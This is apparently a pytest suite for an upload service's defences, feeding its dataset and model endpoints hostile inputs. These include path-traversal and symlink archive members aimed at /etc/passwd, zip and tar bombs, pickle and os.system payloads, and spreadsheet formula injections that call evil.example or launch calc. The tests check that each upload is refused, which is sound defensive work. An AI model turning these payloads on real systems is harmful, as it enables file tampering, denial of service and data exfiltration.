"""Uploads are hostile until proven otherwise: real attacks through the real API.

Every attack must get a 4xx with a stable code naming what is wrong, and must leave no row, no
file in storage and no spooled temp file behind, with the data already stored untouched.
"""

from __future__ import annotations

import io
import json
import stat
import struct
import tarfile
import tempfile
import time
import tracemalloc
import zipfile
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from app.auth.models import Tenant
from app.config import get_settings
from app.datasets.models import Dataset
from app.idempotency import IdempotencyKey
from app.teachers.models import UploadedModel
from contract.records import MAX_LINE_BYTES, parse_dataset
from tests.factories import TINY_SENTIMENT, jsonl_bytes

MB = 1024 * 1024


# --- the guard: nothing stored, nothing left behind, existing data untouched ---


def _storage_tree() -> dict[str, tuple[int, int]]:
    root = get_settings().storage_dir
    return (
        {
            p.relative_to(root).as_posix(): (p.stat().st_size, p.stat().st_mtime_ns)
            for p in root.rglob("*")
            if p.is_file()
        }
        if root.exists()
        else {}
    )


@pytest.fixture()
def scratch(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The process's temp dir for this test: spooled uploads and unpacked archives land here."""
    path = tmp_path / "scratch"
    path.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(path))
    return path


@dataclass
class Guard:
    client: TestClient
    session: Session
    tenant: str
    dataset: dict[str, Any]
    rows: dict[str, int]
    tree: dict[str, tuple[int, int]]
    scratch: Path

    def rejects(
        self,
        url: str,
        name: str,
        content: bytes,
        *,
        status: int,
        code: str,
        line: int | None = None,
        field: str | None = "file",
        message: str | None = None,
    ) -> dict[str, Any]:
        """Post the upload, check the error, then check that nothing changed."""
        response = self.client.post(url, files={"file": (name, content)})
        assert response.status_code == status, response.text
        error = response.json()["error"]
        assert error["code"] == code, error
        assert error.get("line") == line, error
        assert error.get("field") == field, error
        if line is not None:
            assert error["message"].startswith(f"line {line}: "), error
        if message is not None:
            assert message in error["message"], error
        self.assert_unchanged()
        return error

    def assert_unchanged(self) -> None:
        assert _counts(self.session, self.tenant) == self.rows
        assert _storage_tree() == self.tree
        assert list(self.scratch.iterdir()) == []  # no spooled upload, no unpacked archive
        again = self.client.get(f"/v1/datasets/{self.dataset['id']}")
        assert again.status_code == 200 and again.json() == self.dataset


def _counts(session: Session, tenant: str) -> dict[str, int]:
    return {
        t.__tablename__: session.scalar(
            select(func.count()).select_from(t).where(t.tenant_id == tenant)
        )
        or 0
        for t in (Dataset, UploadedModel, IdempotencyKey)
    }


@pytest.fixture()
def guard(client: TestClient, db_session: Session, scratch: Path) -> Guard:
    """An existing dataset, then a snapshot of rows and storage, and an empty temp dir."""
    response = client.post(
        "/v1/datasets",
        files={"file": ("existing.jsonl", (TINY_SENTIMENT / "dev.jsonl").read_bytes())},
    )
    assert response.status_code == 201, response.text
    tenant = client.tenant  # type: ignore[attr-defined]
    assert list(scratch.iterdir()) == []
    return Guard(
        client=client,
        session=db_session,
        tenant=tenant,
        dataset=response.json(),
        rows=_counts(db_session, tenant),
        tree=_storage_tree(),
        scratch=scratch,
    )


@pytest.fixture()
def settings_env() -> Iterator[Callable[..., None]]:
    """Lower a Settings limit for one test through its env variable; restored afterwards."""
    with pytest.MonkeyPatch.context() as mp:

        def override(**values: int) -> None:
            for name, value in values.items():
                mp.setenv(f"DISTILLERY_{name.upper()}", str(value))
            get_settings.cache_clear()

        yield override
    get_settings.cache_clear()


# --- archive builders ---


@pytest.fixture(scope="module")
def teacher(tiny_teacher_dir: Path) -> dict[str, bytes]:
    """The files of a valid save_pretrained folder, as archive entries."""
    return {p.name: p.read_bytes() for p in sorted(tiny_teacher_dir.iterdir()) if p.is_file()}


def zip_of(entries: dict[str, bytes], *, links: dict[str, str] | None = None) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in entries.items():
            info = zipfile.ZipInfo(name)  # keeps the name as given, "/etc/x" included
            info.compress_type = zipfile.ZIP_DEFLATED
            zf.writestr(info, data)
        for name, target in (links or {}).items():
            info = zipfile.ZipInfo(name)
            info.create_system = 3  # unix, so external_attr holds st_mode
            info.external_attr = (stat.S_IFLNK | 0o777) << 16
            zf.writestr(info, target)
    return buf.getvalue()


def tar_of(entries: dict[str, bytes], *, special: Sequence[tarfile.TarInfo] = ()) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tf:
        for name, data in entries.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
        for info in special:
            tf.addfile(info)
    return buf.getvalue()


def tar_member(name: str, kind: bytes, **attrs: Any) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type = kind
    for key, value in attrs.items():
        setattr(info, key, value)
    return info


def doctor_zip(
    archive: bytes, member: str, *, file_size: int | None = None, flag_bits: int = 0
) -> bytes:
    """Rewrite what a zip claims about one member, in its local header and central record."""
    data = bytearray(archive)
    with zipfile.ZipFile(io.BytesIO(archive)) as zf:
        local = zf.getinfo(member).header_offset
        central = zf.start_dir  # type: ignore[attr-defined]
    while bytes(data[central + 46 : central + 46 + len(member)]) != member.encode():
        name_len, extra_len, comment_len = struct.unpack_from("<HHH", data, central + 28)
        central += 46 + name_len + extra_len + comment_len
    # (flags, uncompressed size) sit at +6/+22 in the local header and +8/+24 in the record
    for flags_at, size_at in ((local + 6, local + 22), (central + 8, central + 24)):
        struct.pack_into(
            "<H", data, flags_at, struct.unpack_from("<H", data, flags_at)[0] | flag_bits
        )
        if file_size is not None:
            struct.pack_into("<I", data, size_at, file_size)
    return bytes(data)


def safetensors_with(header: object, payload: bytes = b"") -> bytes:
    raw = json.dumps(header).encode()
    return struct.pack("<Q", len(raw)) + raw + payload


# --- model archives ---


def test_the_unmodified_teacher_archive_is_accepted(
    client: TestClient, teacher: dict[str, bytes]
) -> None:
    """The control: every attack below changes exactly one thing about this archive."""
    for name, content in (("t.zip", zip_of(teacher)), ("t.tar.gz", tar_of(teacher))):
        response = client.post("/v1/models", files={"file": (name, content)})
        assert response.status_code == 201, response.text


@pytest.mark.parametrize(
    ("member", "message"),
    [
        ("../escape.txt", "points outside the archive"),
        ("sub/../../escape.txt", "points outside the archive"),
        ("/etc/cron.d/evil", "points outside the archive"),
        ("\\windows\\evil.txt", "points outside the archive"),
        ("C:/evil.txt", "points outside the archive"),
        (".", "no file name"),
    ],
)
@pytest.mark.parametrize("kind", ["zip", "tar.gz"])
def test_archive_member_outside_the_folder_is_refused(
    guard: Guard, teacher: dict[str, bytes], kind: str, member: str, message: str
) -> None:
    entries = {**teacher, member: b"x"}
    content = zip_of(entries) if kind == "zip" else tar_of(entries)
    guard.rejects(
        "/v1/models", f"t.{kind}", content, status=422, code="model_invalid", message=message
    )


def test_zip_symlink_member_is_refused(guard: Guard, teacher: dict[str, bytes]) -> None:
    content = zip_of(teacher, links={"vocab2.txt": "/etc/passwd"})
    guard.rejects(
        "/v1/models",
        "t.zip",
        content,
        status=422,
        code="model_invalid",
        message="'vocab2.txt' is a symbolic link",
    )


@pytest.mark.parametrize(
    ("special", "message"),
    [
        (tar_member("vocab2.txt", tarfile.SYMTYPE, linkname="/etc/passwd"), "not a regular file"),
        (tar_member("vocab2.txt", tarfile.LNKTYPE, linkname="/etc/passwd"), "not a regular file"),
        (tar_member("vocab2.txt", tarfile.LNKTYPE, linkname="config.json"), "not a regular file"),
        (tar_member("fifo", tarfile.FIFOTYPE), "not a regular file"),
        (tar_member("null", tarfile.CHRTYPE, devmajor=1, devminor=3), "not a regular file"),
        (tar_member("sda", tarfile.BLKTYPE, devmajor=8, devminor=0), "not a regular file"),
    ],
)
def test_tar_links_and_devices_are_refused(
    guard: Guard, teacher: dict[str, bytes], special: tarfile.TarInfo, message: str
) -> None:
    guard.rejects(
        "/v1/models",
        "t.tar.gz",
        tar_of(teacher, special=[special]),
        status=422,
        code="model_invalid",
        message=message,
    )


def test_file_and_folder_of_the_same_name_are_refused(
    guard: Guard, teacher: dict[str, bytes]
) -> None:
    content = zip_of({**teacher, "extra": b"a file", "extra/inner.txt": b"under a file"})
    guard.rejects(
        "/v1/models", "t.zip", content, status=422, code="model_invalid", message="clashes"
    )


@pytest.fixture(scope="module")
def bomb(teacher: dict[str, bytes]) -> bytes:
    """50 MB of zeros that deflate to about 50 KB, beside a valid teacher."""
    return zip_of({**teacher, "padding.bin.txt": bytes(50 * MB)})


def test_zip_bomb_over_the_unpacked_cap_is_refused(
    guard: Guard, bomb: bytes, settings_env: Callable[..., None]
) -> None:
    settings_env(max_model_unpacked_bytes=8 * MB)
    assert len(bomb) < MB
    guard.rejects(
        "/v1/models",
        "bomb.zip",
        bomb,
        status=422,
        code="model_invalid",
        message=f"unpacks to more than {8 * MB} bytes",
    )


def test_zip_bomb_that_lies_about_its_size_is_refused(
    guard: Guard, bomb: bytes, settings_env: Callable[..., None]
) -> None:
    """Declared 1 KB, deflates to 50 MB: extraction stops at the declared size."""
    settings_env(max_model_unpacked_bytes=8 * MB)
    liar = doctor_zip(bomb, "padding.bin.txt", file_size=1024)
    with zipfile.ZipFile(io.BytesIO(liar)) as zf:
        assert zf.getinfo("padding.bin.txt").file_size == 1024
    guard.rejects(
        "/v1/models", "liar.zip", liar, status=422, code="model_invalid", message="corrupt"
    )


def test_tar_gz_bomb_is_refused(
    guard: Guard, teacher: dict[str, bytes], settings_env: Callable[..., None]
) -> None:
    settings_env(max_model_unpacked_bytes=8 * MB)
    content = tar_of({**teacher, "padding.txt": bytes(50 * MB)})
    assert len(content) < MB
    guard.rejects(
        "/v1/models",
        "bomb.tar.gz",
        content,
        status=422,
        code="model_invalid",
        message=f"unpacks to more than {8 * MB} bytes",
    )


def test_tar_pax_header_bomb_is_refused_without_reading_it(
    guard: Guard, teacher: dict[str, bytes]
) -> None:
    """tarfile reads a pax header whole into memory; a 64 MB one must be refused first."""
    header = tar_member("pax", tarfile.XHDTYPE, size=64 * MB)
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tf:
        tf.addfile(header, io.BytesIO(bytes(64 * MB)))
    tracemalloc.start()
    try:
        guard.rejects(
            "/v1/models",
            "pax.tar.gz",
            buf.getvalue(),
            status=422,
            code="model_invalid",
            message="header",
        )
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 16 * MB, peak


def test_too_many_members_is_refused(
    guard: Guard, teacher: dict[str, bytes], settings_env: Callable[..., None]
) -> None:
    settings_env(max_archive_members=len(teacher) + 2)
    extra = {f"notes/{i}.txt": b"x" for i in range(3)}
    for kind, content in (
        ("zip", zip_of({**teacher, **extra})),
        ("tar.gz", tar_of({**teacher, **extra})),
    ):
        guard.rejects(
            "/v1/models",
            f"t.{kind}",
            content,
            status=422,
            code="model_invalid",
            message=f"more than {len(teacher) + 2} entries",
        )


@pytest.mark.parametrize(
    ("extra", "message"),
    [
        ({"pytorch_model.bin": b"\x80\x04pickle"}, "only safetensors"),
        ({"model.pkl": b"\x80\x04pickle"}, "only safetensors"),
        ({"sub/optimizer.PT": b"\x80\x04pickle"}, "only safetensors"),
        ({"modeling_evil.py": b"import os; os.system('id')"}, "custom model code"),
        (
            {
                "tokenizer_config.json": json.dumps(
                    {"auto_map": {"AutoTokenizer": ["evil.EvilTokenizer", None]}}
                ).encode()
            },
            "remote code",
        ),
    ],
)
def test_pickles_code_and_remote_code_are_refused(
    guard: Guard, teacher: dict[str, bytes], extra: dict[str, bytes], message: str
) -> None:
    guard.rejects(
        "/v1/models",
        "t.zip",
        zip_of({**teacher, **extra}),
        status=422,
        code="model_invalid",
        message=message,
    )


def _config(teacher: dict[str, bytes], **changes: Any) -> bytes:
    config = json.loads(teacher["config.json"])
    config.update(changes)
    return json.dumps(config).encode()


@pytest.mark.parametrize(
    ("config", "message"),
    [
        ({"auto_map": {"AutoModel": "modeling_evil.EvilModel"}}, "remote code (auto_map)"),
        ({"model_type": "gpt2"}, "model_type 'gpt2' is not supported"),
        ({"model_type": "roberta"}, "model_type 'roberta' is not supported"),
        ({"model_type": ["bert"]}, "model_type ['bert'] is not supported"),
        ({"model_type": None}, "model_type None is not supported"),
        ({"num_hidden_layers": "many"}, "num_hidden_layers"),
        ({"num_hidden_layers": 10**12}, "num_hidden_layers"),
        ({"hidden_size": -32}, "hidden_size"),
        ({"hidden_size": True}, "hidden_size"),
    ],
)
def test_config_outside_the_allow_list_is_refused(
    guard: Guard, teacher: dict[str, bytes], config: dict[str, Any], message: str
) -> None:
    content = zip_of({**teacher, "config.json": _config(teacher, **config)})
    guard.rejects("/v1/models", "t.zip", content, status=422, code="model_invalid", message=message)


@pytest.mark.parametrize(
    ("raw", "message"),
    [
        (b"{not json", "config.json is not valid JSON"),
        (b"\xff\xfe{}", "config.json is not valid JSON"),
        (b"[1, 2]", "config.json must hold a JSON object"),
        (
            b'{"model_type": "bert", "num_hidden_layers": 1e400, "hidden_size": 32}',
            "config.json is not valid JSON (1e400 is out of range)",
        ),
        (
            b'{"model_type": "bert", "num_hidden_layers": 2, "hidden_size": 32, "x": NaN}',
            "config.json is not valid JSON",
        ),
    ],
)
def test_non_json_config_is_refused(
    guard: Guard, teacher: dict[str, bytes], raw: bytes, message: str
) -> None:
    guard.rejects(
        "/v1/models",
        "t.zip",
        zip_of({**teacher, "config.json": raw}),
        status=422,
        code="model_invalid",
        message=message,
    )


def test_missing_tokenizer_and_missing_weights_are_refused(
    guard: Guard, teacher: dict[str, bytes]
) -> None:
    no_tokenizer = {k: v for k, v in teacher.items() if k not in ("vocab.txt", "tokenizer.json")}
    guard.rejects(
        "/v1/models",
        "t.zip",
        zip_of(no_tokenizer),
        status=422,
        code="model_invalid",
        message="no tokenizer",
    )
    no_weights = {k: v for k, v in teacher.items() if not k.endswith(".safetensors")}
    guard.rejects(
        "/v1/models",
        "t.zip",
        zip_of(no_weights),
        status=422,
        code="model_invalid",
        message="no .safetensors weights",
    )


def test_a_tokenizer_that_does_not_cover_the_embeddings_is_refused(
    guard: Guard, teacher: dict[str, bytes]
) -> None:
    """A vocab.txt of five specials for a model with hundreds of word embeddings: every word
    would be [UNK]. The engine refuses the same (contract/model_files.py)."""
    small = {k: v for k, v in teacher.items() if k != "tokenizer.json"}
    small["vocab.txt"] = b"[PAD]\n[UNK]\n[CLS]\n[SEP]\n[MASK]\n"
    guard.rejects(
        "/v1/models",
        "t.zip",
        zip_of(small),
        status=422,
        code="model_invalid",
        message="it is not this model's tokenizer",
    )


@pytest.mark.parametrize(
    "weights",
    [
        b"",
        b"\x01\x02\x03",
        struct.pack("<Q", 10**15) + b"{}",
        struct.pack("<Q", 1000) + b'{"w": {"dtype": "F32"',
        struct.pack("<Q", 4) + b"[1] ",
        safetensors_with({"w": {"dtype": "F32", "shape": "abc", "data_offsets": [0, 0]}}),
        safetensors_with({"w": {"dtype": "F32", "shape": 5, "data_offsets": [0, 0]}}),
        safetensors_with(
            {"w": {"dtype": "F32", "shape": [-4], "data_offsets": [0, 16]}}, bytes(16)
        ),
        safetensors_with(
            {"w": {"dtype": "F32", "shape": [10**30], "data_offsets": [0, 16]}}, bytes(16)
        ),
        safetensors_with(
            {"w": {"dtype": "F32", "shape": [4], "data_offsets": [0, 4096]}}, bytes(16)
        ),
        safetensors_with({"w": {"dtype": "F32", "shape": [4]}}, bytes(16)),
        safetensors_with({"w": {"dtype": 7, "shape": [4], "data_offsets": [0, 16]}}, bytes(16)),
    ],
)
def test_corrupt_safetensors_is_refused(
    guard: Guard, teacher: dict[str, bytes], weights: bytes
) -> None:
    content = zip_of({**teacher, "model.safetensors": weights})
    guard.rejects(
        "/v1/models",
        "t.zip",
        content,
        status=422,
        code="model_invalid",
        message="model.safetensors",
    )


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("n.zip", b"just text, not an archive", "neither a .zip nor a .tar.gz"),
        ("t.tar.gz", b"\x1f\x8b\x08\x00" + bytes(64), "corrupt"),
    ],
)
def test_garbage_and_truncated_archives_are_refused(
    guard: Guard, name: str, content: bytes, message: str
) -> None:
    guard.rejects("/v1/models", name, content, status=422, code="model_invalid", message=message)


def test_truncated_and_encrypted_members_are_refused(
    guard: Guard, teacher: dict[str, bytes]
) -> None:
    whole = tar_of(teacher)
    guard.rejects(
        "/v1/models",
        "t.tar.gz",
        whole[: len(whole) // 2],
        status=422,
        code="model_invalid",
        message="corrupt",
    )
    encrypted = doctor_zip(zip_of(teacher), "config.json", flag_bits=0x1)  # bit 0: encrypted
    guard.rejects(
        "/v1/models", "t.zip", encrypted, status=422, code="model_invalid", message="encrypted"
    )


# --- datasets ---


def rows(n: int = 6, **fields: Any) -> list[dict[str, Any]]:
    return [
        {"text": f"row {i} is fine", "label": ("pos", "neg")[i % 2], **fields} for i in range(n)
    ]


def csv_of(lines: list[str]) -> bytes:
    return ("\n".join(lines) + "\n").encode()


def test_invalid_utf8_names_its_line(guard: Guard) -> None:
    content = jsonl_bytes(rows(3)) + '{"text": "café", "label": "pos"}\n'.encode("latin-1")
    guard.rejects(
        "/v1/datasets",
        "d.jsonl",
        content,
        status=422,
        code="dataset_invalid",
        line=4,
        message="not valid UTF-8",
    )


def test_utf16_file_is_refused_on_line_one(guard: Guard) -> None:
    content = jsonl_bytes(rows()).decode().encode("utf-16")
    guard.rejects(
        "/v1/datasets",
        "d.jsonl",
        content,
        status=422,
        code="dataset_invalid",
        line=1,
        message="not valid UTF-8",
    )


@pytest.mark.parametrize(
    ("header", "field", "message"),
    [
        ("sentence,label", "text", "no 'text' column"),
        ("te\rxt,label", "file", "malformed CSV header"),  # found by the fuzzer: was a 500
        ("text,label,text", "text", "more than once"),
        ("text, label,label", "label", "more than once"),
    ],
)
def test_csv_header_without_text_or_with_repeats(
    guard: Guard, header: str, field: str, message: str
) -> None:
    content = csv_of([header] + [f"row {i},{i % 2},{i % 2}" for i in range(6)])
    guard.rejects(
        "/v1/datasets",
        "d.csv",
        content,
        status=422,
        code="dataset_invalid",
        line=1,
        field=field,
        message=message,
    )


def test_one_class_and_too_few_rows(guard: Guard) -> None:
    guard.rejects(
        "/v1/datasets",
        "d.jsonl",
        jsonl_bytes(rows(10, label="same")),
        status=422,
        code="dataset_invalid",
        field="label",
        message="at least two classes",
    )
    guard.rejects(
        "/v1/datasets",
        "d.jsonl",
        jsonl_bytes(rows(3)),
        status=422,
        code="dataset_invalid",
        field="file",
        message="at least 4 rows, this one has 3",
    )


def test_non_finite_labels_name_their_line(guard: Guard) -> None:
    """Python's json reads NaN and Infinity, and float() reads "+inf" and "1e999"."""
    for literal in ("NaN", "Infinity", "-Infinity", "1e999"):
        bad = f'{{"text": "x", "label": {literal}}}\n'.encode()
        content = jsonl_bytes(rows(4, label=0.5)) + bad
        guard.rejects(
            "/v1/datasets",
            "d.jsonl",
            content,
            status=422,
            code="dataset_invalid",
            line=5,
            field="label",
            message="finite",
        )
    for cell in ("nan", "+inf", "-Infinity", "1e999", "-1E400"):
        content = csv_of(["text,label", "a,0.5", "b,1.5", f"c,{cell}", "d,2.5"])
        guard.rejects(
            "/v1/datasets",
            "d.csv",
            content,
            status=422,
            code="dataset_invalid",
            line=4,
            field="label",
            message="not a usable label",
        )


@pytest.mark.parametrize(
    ("label", "message"),
    [
        (["pos"], "string or a number"),
        ({"name": "pos"}, "string or a number"),
        (True, "not a boolean"),
    ],
)
def test_label_of_the_wrong_type_names_its_line(guard: Guard, label: Any, message: str) -> None:
    content = jsonl_bytes([*rows(4), {"text": "x", "label": label}])
    guard.rejects(
        "/v1/datasets",
        "d.jsonl",
        content,
        status=422,
        code="dataset_invalid",
        line=5,
        field="label",
        message=message,
    )


def test_mixed_labelled_and_unlabelled_rows(guard: Guard) -> None:
    content = jsonl_bytes([*rows(3), {"text": "no label here"}, *rows(2)])
    guard.rejects(
        "/v1/datasets",
        "d.jsonl",
        content,
        status=422,
        code="dataset_invalid",
        line=4,
        field="label",
        message="'label' is missing",
    )
    content = jsonl_bytes([{"text": "a"}, {"text": "b"}, {"text": "c", "label": "pos"}])
    guard.rejects(
        "/v1/datasets",
        "d.jsonl",
        content,
        status=422,
        code="dataset_invalid",
        line=3,
        field="label",
        message="earlier rows have none",
    )


@pytest.mark.parametrize("kind", ["jsonl", "csv"])
def test_ten_megabyte_line_names_its_line(guard: Guard, kind: str) -> None:
    huge = "a" * (10 * MB)
    if kind == "jsonl":
        content = jsonl_bytes([*rows(2), {"text": huge, "label": "pos"}, *rows(2)])
    else:
        content = csv_of(["text,label", "a,pos", "b,neg", f"{huge},pos", "c,neg"])
    guard.rejects(
        "/v1/datasets",
        f"d.{kind}",
        content,
        status=422,
        code="dataset_invalid",
        line=3 if kind == "jsonl" else 4,
        field="file",
        message=f"longer than {MAX_LINE_BYTES} bytes",
    )


def test_long_line_is_refused_without_reading_it_whole(tmp_path: Path) -> None:
    """The parser holds at most one capped line in memory, however long the line is."""
    path = tmp_path / "long.jsonl"
    with path.open("wb") as f:
        f.write(jsonl_bytes(rows(2)))
        f.write(b'{"text": "' + b"a" * (64 * MB) + b'", "label": "pos"}\n')
    tracemalloc.start()
    try:
        with path.open("rb") as f, pytest.raises(ValueError, match="^line 3: .*longer than"):
            parse_dataset(f, filename="long.jsonl")
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 4 * MAX_LINE_BYTES, peak


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '  =IMPORTXML(CONCAT("http://evil/",A2),"//a")',
    '=1+WEBSERVICE("http://evil")',
]
NOT_FORMULAS = [
    "-5 stars, would not buy again",
    "+1 for the battery",
    "@bob thanks!",
    "=) lovely",
    "- meh (not great)",
    "--- worst ever ---",
    "email@example.com(x)",
    "'=SUM(A1)",
]


@pytest.mark.parametrize("field", ["text", "text_pair", "label"])
def test_spreadsheet_formula_cells_are_refused(guard: Guard, field: str) -> None:
    for cell in FORMULAS:
        bad = {"text": "fine", "text_pair": "fine", "label": "pos", field: cell}
        content = jsonl_bytes([*rows(3, text_pair="ok"), bad, *rows(2, text_pair="ok")])
        guard.rejects(
            "/v1/datasets",
            "d.jsonl",
            content,
            status=422,
            code="dataset_invalid",
            line=4,
            field=field,
            message="spreadsheet formula",
        )


def test_spreadsheet_formula_in_a_csv_cell_names_line_and_field(guard: Guard) -> None:
    content = csv_of(["text,label", "fine,pos", "ok,neg", '"=HYPERLINK(""http://x"")",pos'])
    error = guard.rejects(
        "/v1/datasets",
        "d.csv",
        content,
        status=422,
        code="dataset_invalid",
        line=4,
        field="text",
        message="spreadsheet formula",
    )
    assert "apostrophe" in error["message"]


def test_formula_check_is_linear_in_the_text_length(client: TestClient) -> None:
    """A backtracking rule would take minutes on one long "-aaaa…" text (found in review)."""
    content = jsonl_bytes(
        {"text": "-" + "a" * 99_000, "label": ("pos", "neg")[i % 2]} for i in range(4)
    )
    started = time.monotonic()
    response = client.post("/v1/datasets", files={"file": ("d.jsonl", content)})
    assert response.status_code == 201, response.text
    assert time.monotonic() - started < 10


def test_text_that_only_starts_like_a_formula_is_accepted(client: TestClient) -> None:
    content = jsonl_bytes(
        [{"text": t, "label": ("pos", "neg")[i % 2]} for i, t in enumerate(NOT_FORMULAS)]
    )
    response = client.post("/v1/datasets", files={"file": ("d.jsonl", content)})
    assert response.status_code == 201, response.text
    assert response.json()["num_rows"] == len(NOT_FORMULAS)


@pytest.mark.parametrize(
    ("name", "content", "code", "field", "message"),
    [
        ("e.jsonl", b"", "file_empty", "file", "empty"),
        ("b.jsonl", b"\n\n   \n\t\n", "dataset_invalid", "file", "this one has 0"),
        ("b.csv", b"\n\n\n", "dataset_invalid", "text", "no 'text' column"),
    ],
)
def test_empty_and_blank_files(
    guard: Guard, name: str, content: bytes, code: str, field: str, message: str
) -> None:
    line = 1 if name.endswith(".csv") else None
    guard.rejects(
        "/v1/datasets",
        name,
        content,
        status=422,
        code=code,
        line=line,
        field=field,
        message=message,
    )


def _lower_upload_cap(guard: Guard, cap: int) -> None:
    tenant = guard.session.get(Tenant, guard.tenant)
    assert tenant is not None
    tenant.max_upload_bytes = cap  # rolled back with the test's transaction
    guard.session.flush()


@pytest.mark.parametrize("url", ["/v1/datasets", "/v1/models"])
def test_file_over_the_upload_cap_is_413_and_leaves_no_temp_file(guard: Guard, url: str) -> None:
    _lower_upload_cap(guard, 64 * 1024)
    content = jsonl_bytes(rows(20_000))
    assert len(content) > 4 * 64 * 1024
    error = guard.rejects(
        url,
        "big.jsonl",
        content,
        status=413,
        code="file_too_large",
        message="larger than the 65536 byte limit",
    )
    assert error["field"] == "file"


def test_spool_stops_reading_at_the_cap(scratch: Path) -> None:
    """The spool reads in chunks and gives up at the first chunk over the cap."""
    import asyncio

    from starlette.datastructures import UploadFile

    from app.errors import AppError
    from app.uploads import CHUNK, spool

    class Endless(io.RawIOBase):
        reads = 0

        def readable(self) -> bool:
            return True

        def readinto(self, buffer: Any) -> int:
            Endless.reads += 1
            buffer[:] = bytes(len(buffer))
            return len(buffer)

    with pytest.raises(AppError) as raised:
        asyncio.run(spool(UploadFile(Endless(), filename="x"), max_bytes=3 * CHUNK))  # type: ignore[arg-type]
    assert raised.value.code == "file_too_large" and raised.value.status == 413
    assert Endless.reads == 4  # three chunks fit under the cap, the fourth is one too many
    assert list(scratch.iterdir()) == []


def test_hostile_file_names_are_stored_as_a_plain_name(client: TestClient) -> None:
    boundary = "b0undary"
    body = (
        (
            f"--{boundary}\r\n"
            'Content-Disposition: form-data; name="file"; filename="../../etc/a\x00b\x1b[31m.jsonl"'
            "\r\nContent-Type: application/octet-stream\r\n\r\n"
        ).encode()
        + jsonl_bytes(rows())
        + (f"\r\n--{boundary}--\r\n").encode()
    )
    response = client.post(
        "/v1/datasets",
        content=body,
        headers={"content-type": f"multipart/form-data; boundary={boundary}"},
    )
    assert response.status_code == 201, response.text
    assert response.json()["filename"] == "ab[31m.jsonl"


def _claim_entries(content: bytes, entries: int) -> bytes:
    """The zip with its end record claiming `entries` entries; the directory itself unchanged."""
    at = content.rfind(b"PK\x05\x06")
    return content[: at + 8] + struct.pack("<HH", entries, entries) + content[at + 12 :]


def test_the_zip_member_count_is_read_from_the_end_record_before_anything_is_listed(
    guard: Guard, teacher: dict[str, bytes], settings_env: Callable[..., None]
) -> None:
    """A directory of a few entries behind an end record that claims 60,000: refused on the
    claim, so a real 60,000-entry directory is never read into memory either."""
    settings_env(max_archive_members=len(teacher) + 2)
    claimed = _claim_entries(zip_of(teacher), 60_000)
    guard.rejects(
        "/v1/models",
        "t.zip",
        claimed,
        status=422,
        code="model_invalid",
        message=f"more than {len(teacher) + 2} entries",
    )


def test_a_zip_whose_end_record_understates_its_directory_is_refused(
    guard: Guard, teacher: dict[str, bytes], settings_env: Callable[..., None]
) -> None:
    settings_env(max_archive_members=len(teacher) + 2)
    many = zip_of({**teacher, **{f"notes/{i:05}.txt": b"" for i in range(2000)}})
    guard.rejects(
        "/v1/models",
        "t.zip",
        _claim_entries(many, len(teacher)),
        status=422,
        code="model_invalid",
        message="central directory",
    )


def test_the_end_record_is_read_in_zip64_too(tmp_path: Path) -> None:
    from app.teachers.archive import central_directory

    path = tmp_path / "t.zip"
    with zipfile.ZipFile(path, "w") as zf:
        for i in range(3):
            zf.writestr(f"f{i}.txt", b"x")
    plain = central_directory(path)
    assert plain[0] == 3
    with zipfile.ZipFile(path, "w", allowZip64=True) as zf:
        for i in range(0x10000):  # one more than the classic record can count: zip64's
            zf.writestr(zipfile.ZipInfo(f"{i}"), b"")
    entries, cd_size = central_directory(path)
    assert entries == 0x10000
    assert cd_size > 46 * 0x10000


def test_healthz_answers_while_a_large_upload_is_validated(
    client: TestClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The validation waits, mid-way, until /healthz has answered: on the event loop it would
    block the loop, /healthz could not answer, and the wait would run out instead."""
    import threading

    from app.datasets import service

    validating = threading.Event()
    healthz_answered = threading.Event()
    order: list[str] = []

    def parse_while_healthz(stream: Any, *, filename: str) -> Any:
        validating.set()
        order.append("answered" if healthz_answered.wait(timeout=30) else "loop blocked")
        return parse_dataset(stream, filename=filename)

    monkeypatch.setattr(service, "parse_dataset", parse_while_healthz)
    content = (TINY_SENTIMENT / "train.jsonl").read_bytes()
    results: list[int] = []
    upload = threading.Thread(
        target=lambda: results.append(
            client.post("/v1/datasets", files={"file": ("t.jsonl", content)}).status_code
        )
    )
    upload.start()
    try:
        assert validating.wait(timeout=60)
        assert client.get("/healthz").status_code == 200
        healthz_answered.set()
    finally:
        healthz_answered.set()
        upload.join()
    assert order == ["answered"]
    assert results == [201]
